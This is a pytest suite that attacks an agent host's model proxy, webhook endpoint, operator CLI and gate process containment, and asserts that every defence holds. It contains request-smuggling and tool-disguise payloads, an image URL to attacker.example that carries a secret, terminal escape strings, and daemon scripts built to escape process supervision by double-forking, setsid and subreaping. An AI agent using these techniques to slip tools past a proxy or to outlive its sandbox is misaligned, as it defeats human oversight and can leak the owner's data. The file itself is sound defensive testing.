"""Attack review of issue 11's defences: each test is an attack a hostile agent (or a local user) tried against the
new bounds with real sockets and processes, asserting that the defence held."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import sqlite3
import subprocess
import sys
import threading
from collections.abc import AsyncIterator
from contextlib import closing
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from cli_kit import Ncl, ok
from kit import World
from proxy_kit import ASK, Host, post
from security_kit import ROOT, T0
from test_proxy import MESSAGE, Upstream, raw
from test_webhooks import Hook

from host.runtimes.proxy import policy as api_policy
from host.store import groups

# A clipboard write, a screen clear, a window title, an 8-bit CSI, a right-to-left override, DEL.
HOSTILE = "\x1b]52;c;aGFja2Vk\x07\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eexe.txt\x7f"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
AT = "2026-06-11T09:00:00.000Z"
WEB_FETCH = {"type": "web_fetch_20250910", "name": "f"}


def _write(path: Path, sql: str, *args: Any) -> None:
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute(sql, args)


def send(sock: Path, body: bytes, head: bytes = b"") -> bytes:
    answer: bytes = raw(sock, b"POST /v1/messages HTTP/1.1\r\ncontent-length: %d\r\n%s\r\n%s" % (len(body), head, body))
    return answer


# -- the model proxy's policy: what a hostile agent tried to slip past it ---------------------------------------------

def test_server_tool_disguises_are_refused(host: Host, upstream: Upstream) -> None:
    sock = host.serve()
    tool = json.dumps(WEB_FETCH).encode()
    bodies = [
        b'{"tools": [{"type": "Web_Fetch_20250910", "name": "f"}]}',  # casing: not a client tool, so refused
        b'{"tools": [{"type": "BASH_20250124", "name": "b"}]}',
        b'{"tools": [{"typ\\u0065": "web_fetch_20250910", "name": "f"}]}',  # escaped key decodes to "type"
        b'{"tools": [], "t\\u006fols": [%s]}' % tool,  # a duplicate hidden by an escape
        b'{"tools": [{"type": "custom", "type": "web_fetch_20250910"}]}',  # duplicate inside the tool
        b'\xef\xbb\xbf{"tools": [%s]}' % tool,  # a BOM: still parsed, still refused
        b'{"tools": [%s], "model": NaN}' % tool,
        b'{"container": "c"}', b'{"mcp_servers": [{}]}',
    ]
    for body in bodies:
        assert send(sock, body).split(b" ", 2)[1] == b"400", body
    chunked = b"POST /v1/messages?beta=true HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\n"
    chunked += b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in (b'{"tools": [', tool, b"]}")) + b"0\r\n\r\n"
    assert raw(sock, chunked).split(b" ", 2)[1] == b"411"  # framing is no way around what is inspected
    assert upstream.seen == []


def test_beta_header_forms_are_all_inspected(host: Host, upstream: Upstream) -> None:
    sock = host.serve()
    forms = [b"Anthropic-Beta: web-fetch-2025-09-10\r\n",
             b"ANTHROPIC-BETA:\tprompt-caching-2024-07-31,web-fetch-2025-09-10\t\r\n",
             b"anthropic-beta: prompt-caching-2024-07-31\r\nanthropic-beta: mcp-client-2025-04-04\r\n",
             b"anthropic-beta: prompt-caching-2024-07-31,,  files-api-2025-04-14\r\n",
             b"anthropic-beta: Web-Fetch-2025-09-10\r\n",  # not on the list in any casing
             b"anthropic-beta : web-fetch-2025-09-10\r\n",  # a space before the colon: malformed, refused
             b" anthropic-beta: web-fetch-2025-09-10\r\n"]  # an obsolete folded line: refused
    for head in forms:
        assert send(sock, json.dumps(ASK).encode(), head).split(b" ", 2)[1] == b"400", head
    assert upstream.seen == []


def test_two_content_lengths_cannot_smuggle_a_tool_upstream(host: Host, upstream: Upstream) -> None:
    sock = host.serve()
    inspected = json.dumps(ASK).encode()
    hidden = b'{"tools": [%s]}' % json.dumps(WEB_FETCH).encode()
    reply = raw(sock, b"POST /v1/messages HTTP/1.1\r\ncontent-length: %d\r\ncontent-length: %d\r\n\r\n%s%s" % (
        len(inspected), len(inspected) + len(hidden), inspected, hidden))
    # Whatever the proxy answers, upstream gets only the bytes it inspected, framed by the proxy itself.
    assert all(seen.body == inspected for seen in upstream.seen)
    assert all(seen.headers["content-length"] == str(len(inspected)) for seen in upstream.seen)
    assert reply.split(b" ", 2)[1] in (b"200", b"400")


def test_path_and_target_tricks_stay_refused(host: Host, upstream: Upstream) -> None:
    sock = host.serve()
    for target in (b"/v1/messages/../files", b"/v1//messages", b"/v1/messages/batches", b"/v1/messages%2fbatches",
                   b"http://evil.example/v1/messages", b"/v1/messages#x", b"/V1/messages", b"//evil/v1/messages"):
        reply = raw(sock, b"POST %s HTTP/1.1\r\ncontent-length: 2\r\n\r\n{}" % target)
        assert reply.split(b" ", 2)[1] == b"403", target
    assert upstream.seen == []


def test_framing_tricks_never_reach_upstream(host: Host, upstream: Upstream) -> None:
    sock = host.serve()
    body = json.dumps(ASK).encode()
    heads = [b"transfer-encoding: chunked\r\ncontent-length: %d\r\n" % len(body),  # both framings: smuggling
             b"transfer-encoding: gzip, chunked\r\n", b"transfer-encoding: identity\r\n",
             b"content-length: +%d\r\n" % len(body), b"content-length: %d \x0b\r\n" % len(body),
             b"content-length: \xb2\r\n", b"content-length: 0x10\r\n", b"content-length: 1_0\r\n"]
    for head in heads:
        reply = raw(sock, b"POST /v1/messages HTTP/1.1\r\n%s\r\n%s" % (head, body))
        assert reply.split(b" ", 2)[1] == b"400", head
    for size in (b"-1", b"0x2", b" 2", b"2 ", b"\xd9\xa2"):  # sign, prefix, spaces, an Arabic-Indic digit
        chunked = b"POST /v1/messages HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\n%s\r\n{}\r\n0\r\n\r\n"
        reply = raw(sock, chunked % size)
        assert reply.split(b" ", 2)[1] == b"411", size  # (a chunked body is refused whatever its sizes)
    assert upstream.seen == []


# -- a gate's daemons: each holds a FIFO open, so the test sees EOF exactly when every one of them is dead ----------

DAEMON = """
import ctypes, os, sys, time
kind, fifo = sys.argv[1], sys.argv[2]
fd = os.open(fifo, os.O_WRONLY)
end = time.monotonic() + 8  # each dies by itself within 8 s, whatever happens
if kind == "late-double-fork":  # waits until the gate is over, then double-forks into a new session
    time.sleep(0.4)
    if os.fork(): os._exit(0)
    os.setsid()
    if os.fork(): os._exit(0)
elif kind == "new-groups":  # a process group of its own, and a child in yet another
    os.setpgid(0, 0)
    if os.fork() == 0:
        os.setpgid(0, 0)
elif kind == "own-subreaper":  # a subreaper itself, so its orphans stay below it and not the runner
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
    if os.fork() == 0 and os.fork():
        os._exit(0)
while time.monotonic() < end:
    time.sleep(0.05)
"""
RUNNER = """
import json, os, select, sys
sys.path[:0] = [sys.argv[3]]
from schemas.proctree import become_subreaper
from agent_runner.gate import run_gate
kind, fifo, daemon = sys.argv[1], sys.argv[2], sys.argv[4]
os.mkfifo(fifo)
reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
assert become_subreaper()  # as every runner is
script = f"setsid python3 {daemon} {kind} {fifo} >/dev/null 2>&1 &\\nsleep 0.2\\necho '{{\\"wakeAgent\\": false}}'"
result = run_gate(script, task_id="t", tz="UTC", home="/tmp", cwd="/tmp")
poller = select.poll()
poller.register(reader, select.POLLHUP)
print(json.dumps({"outcome": result.outcome, "all_dead": bool(poller.poll(3000))}))
"""


@pytest.mark.parametrize("kind", ["late-double-fork", "new-groups", "own-subreaper"])
def test_a_gates_evasive_daemon_is_dead_when_the_gate_ends(tmp_path: Path, kind: str) -> None:
    (tmp_path / "daemon.py").write_text(DAEMON)
    done = subprocess.run([sys.executable, "-c", RUNNER, kind, str(tmp_path / "alive"), str(ROOT),
                           str(tmp_path / "daemon.py")], capture_output=True, text=True, timeout=60)
    assert json.loads(done.stdout) == {"outcome": "skip", "all_dead": True}, done.stderr[-2000:]


# -- webhook authorization: header tricks of a network peer on 127.0.0.1 ------------------------------------------

@pytest.fixture
async def hook(tmp_path: Path) -> AsyncIterator[Hook]:
    made = Hook(tmp_path)
    async with made.serving():
        yield made


async def ask(hook: Hook, target: str, auth: list[str], body: bytes = b"{}", length: int | None = None) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", hook.port)
    lines = "".join(f"authorization: {value}\r\n" for value in auth)
    writer.write(f"POST {target} HTTP/1.1\r\n{lines}content-length: {len(body) if length is None else length}"
                 f"\r\n\r\n".encode() + body)
    answer = await asyncio.wait_for(reader.read(), 5)
    writer.close()
    return answer.split(b" ", 2)[1]


async def test_webhook_token_tricks_are_401_and_write_nothing(hook: Hook) -> None:
    token = hook.token
    tricks = [("/webhooks/github", [f"Bearer\t{token}"]), ("/webhooks/github", [f"Basic {token}"]),
              ("/webhooks/github", [f"Bearer {token[:-1]}"]), ("/webhooks/github", [f"Bearer {token.upper()}"]),
              ("/webhooks/github", ["Bearer x", f"Bearer {token}"]),  # the first header is the one that counts
              ("/webhooks/github", [f"Bearer {token}\x00"]), ("/webhooks/github", ["Bearer "]),
              ("/webhooks/github", []),
              ("/webhooks/gith%75b", [f"Bearer {token}"]), ("/webhooks//github", [f"Bearer {token}"]),
              ("/webhooks/github/", [f"Bearer {token}"]), ("/webhooks/cli", [f"Bearer {token}"]),
              ("/webhooks/github", [f"Bearer {groups.token_hash(token)}"])]  # the stored hash is not the token
    for target, auth in tricks:
        assert await ask(hook, target, auth) == b"401", (target, auth)
    # Unauthorized and announcing a gigabyte: answered at once on the headers, no byte of the body awaited.
    assert await ask(hook, "/webhooks/github", ["Bearer nope"], b"", length=1 << 30) == b"401"
    assert hook.rows() == []
    assert await ask(hook, "/webhooks/github?x=1", [f"bearer   {token}  "]) == b"202"  # the control: it does work
    assert len(hook.rows()) == 1


# -- operator terminals: hostile text where the escaping funnel might not look ------------------------------------

def test_hostile_script_keys_odd_replies_and_ids_in_errors_reach_no_terminal_raw(ncl: Ncl) -> None:
    ok(ncl("groups", "create", "demo", "--channel", "cli"))
    session = ok(ncl("sessions", "create", "--group", "demo", "--json")).json()
    added = ok(ncl("tasks", "add", "--session", session["id"], "--prompt", "p", "--at", "2026-06-12T09:00:00Z",
                   "--now", "2026-06-11T09:00:00Z", "--json")).json()
    folder = Path(session["path"])
    _write(folder / "inbound.db", "UPDATE messages_in SET content = ? WHERE id = ?",  # a runner's update_task keys
           json.dumps({"prompt": "p", "script": HOSTILE, HOSTILE: HOSTILE}), added["id"])
    for seq, content in ((1, [HOSTILE]), (3, {"text": {"nested": HOSTILE}, HOSTILE: 1})):  # replies of odd shapes
        _write(folder / "outbound.db", "INSERT INTO messages_out(id, seq, timestamp, kind, content)"
                                       " VALUES (?, ?, ?, 'chat', ?)", f"{HOSTILE}{seq}", seq, AT, json.dumps(content))
    for args in (["tasks", "show", added["id"]], ["tasks", "list"], ["messages", "list", "--session", session["id"]],
                 ["status"], ["tasks", "show", HOSTILE], ["messages", "list", "--session", HOSTILE],
                 ["tasks", "cancel", HOSTILE], ["sessions", "show", HOSTILE], ["groups", "show", HOSTILE]):
        shown = ncl(*args)
        for text in (shown.out, shown.err):
            assert RAW.search(text) is None, (args, text)
    listed = ok(ncl("messages", "list", "--session", session["id"], "--json")).json()["messages"]
    assert f"{HOSTILE}1" in [m["id"] for m in listed]  # --json keeps the exact text


# -- bounded work: flip-flop floods stay within the per-visit cap -------------------------------------------------

def test_a_pause_resume_flood_is_applied_fifty_per_visit(tmp_path: Path) -> None:
    world = World(tmp_path, tz="UTC")
    task = world.schedule(T0, recurrence="*/5 * * * *")
    for n in range(120):
        world.request(T0, {"action": ("pause_task", "resume_task")[n % 2], "taskId": task})
    sweeper = world.sweeper()
    assert [sweeper.tick(T0 + timedelta(seconds=s)).applied for s in (1, 2, 3, 4)] == [50, 50, 20, 0]
    assert len(world.live(task)) == 1  # a flip-flop never multiplies the series' occurrences


# -- holes the review found, now closed -------------------------------------------------------------------------------

def test_content_the_api_would_fetch_for_the_agent_is_refused(host: Host, upstream: Upstream) -> None:
    """An image or document whose source is a URL makes the Messages API fetch it (data leaves in the URL, the page
    comes back); a Files API source reads the organisation's files. Both are server features."""
    sock = host.serve()
    leak = "https://attacker.example/x.png?secret=the-owners-mail"
    for block in ({"type": "image", "source": {"type": "url", "url": leak}},
                  {"type": "document", "source": {"type": "url", "url": leak.replace("png", "pdf")}},
                  {"type": "document", "source": {"type": "file", "file_id": "file_011"}}):
        ask = {**ASK, "messages": [{"role": "user", "content": [block, {"type": "text", "text": "describe"}]}]}
        answer = post(sock, ask)
        assert answer.status_code == 400 and "content source" in answer.text, block
    assert upstream.seen == []
    plain = {**ASK, "messages": [{"role": "user", "content": [{"type": "text", "text": "the url type is fine"}]}]}
    assert post(sock, plain).status_code == 200


def test_a_container_object_of_any_value_is_a_server_feature(host: Host, upstream: Upstream) -> None:
    sock = host.serve()
    for value in (b'{"id": "container_1", "skills": [{"type": "anthropic", "skill_id": "x"}]}', b"{}", b'""'):
        assert send(sock, b'{"model": "m", "container": %s}' % value).split(b" ", 2)[1] == b"400", value
    assert upstream.seen == []


def test_cache_tokens_count_toward_the_daily_budget(host: Host, upstream: Upstream) -> None:
    usage = {"input_tokens": 3, "cache_creation_input_tokens": 90_000, "cache_read_input_tokens": 90_000,
             "output_tokens": 1}
    upstream.reply = lambda h: h.send(200, json.dumps({**MESSAGE, "usage": usage}).encode())
    sock = host.serve(NCL_GROUP_TOKENS_PER_DAY="1000")
    codes = [post(sock).status_code for _ in range(3)]
    assert codes == [200, 429, 429], (codes, host.usage())


def test_request_headers_reach_upstream_only_from_an_allow_list(host: Host, upstream: Upstream) -> None:
    sock = host.serve()
    send(sock, json.dumps(ASK).encode(), b"anthropic_beta: web-fetch-2025-09-10\r\nx-custom: 1\r\n"
                                         b"anthropic-version: 2023-06-01\r\n")
    (seen,) = upstream.seen
    assert "anthropic_beta" not in seen.headers and "x-custom" not in seen.headers
    assert seen.headers["anthropic-version"] == "2023-06-01"


def test_deeply_nested_json_is_a_400_and_logs_no_traceback(host: Host, upstream: Upstream,
                                                           caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="host.runtimes.proxy.server")
    sock = host.serve()
    deep = b"[" * 100_000 + b"]" * 100_000
    answers = {send(sock, deep)[:12] for _ in range(20)}
    assert answers == {b"HTTP/1.1 400"}
    assert not [r for r in caplog.records if r.exc_info], "a refusal is one line, never a traceback"


def test_a_body_is_inspected_off_the_proxys_event_loop(host: Host, upstream: Upstream,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Decoding a 32 MiB body of tiny objects takes seconds of CPU: on the proxy's loop it would stall every other
    session's calls and streams meanwhile."""
    inspected_on: list[str] = []
    real = api_policy.asked

    def spy(body: bytes | bytearray) -> api_policy.Asked:
        inspected_on.append(threading.current_thread().name)
        return real(body)

    monkeypatch.setattr(api_policy, "asked", spy)
    sock = host.serve()
    assert post(sock).status_code == 200
    (proxy,) = host.proxies
    assert proxy.thread is not None and inspected_on and proxy.thread.name not in inspected_on


HOPPER = """
import os, sys, time
fd = os.open(sys.argv[2], os.O_WRONLY)  # held by every generation: EOF at the reader only when all are dead
end = time.monotonic() + 8  # bounded: it stops by itself
while time.monotonic() < end:
    if os.fork():
        os._exit(0)  # the parent leaves at once; the child carries on
    time.sleep(float(sys.argv[1]))
"""
HOP_RUNNER = """
import json, os, select, sys
sys.path[:0] = [sys.argv[3]]
from schemas.proctree import OWN, become_subreaper
from agent_runner.gate import run_gate
fifo, hopper = sys.argv[1], sys.argv[2]
os.mkfifo(fifo)
reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
def gone(seconds):
    poller = select.poll()
    poller.register(reader, select.POLLHUP)
    return bool(poller.poll(seconds * 1000))
assert become_subreaper()  # as every runner is
hop = f"setsid {sys.executable} {hopper} 0.002 {fifo} >/dev/null 2>&1 &"
script = hop + "\\nsleep 0.3\\necho '{\\"wakeAgent\\": false}'"
result = run_gate(script, task_id="t", tz="UTC", home="/tmp", cwd="/tmp")
print(json.dumps({"outcome": result.outcome, "gone_after_gate": gone(1.5)}))
"""


def test_a_daemon_that_forks_and_exits_every_few_ms_dies_with_its_gate(tmp_path: Path) -> None:
    """Each generation forks a successor and exits at once: the successor comes back to the runner (a subreaper)
    between two scans, outside the tree being frozen. The freeze asks for the runner's strays at every round."""
    (tmp_path / "hop.py").write_text(HOPPER)
    out = subprocess.run([sys.executable, "-c", HOP_RUNNER, str(tmp_path / "alive"), str(tmp_path / "hop.py"),
                          str(ROOT)], capture_output=True, text=True, timeout=60)
    assert json.loads(out.stdout) == {"outcome": "skip", "gone_after_gate": True}, out.stderr[-2000:]
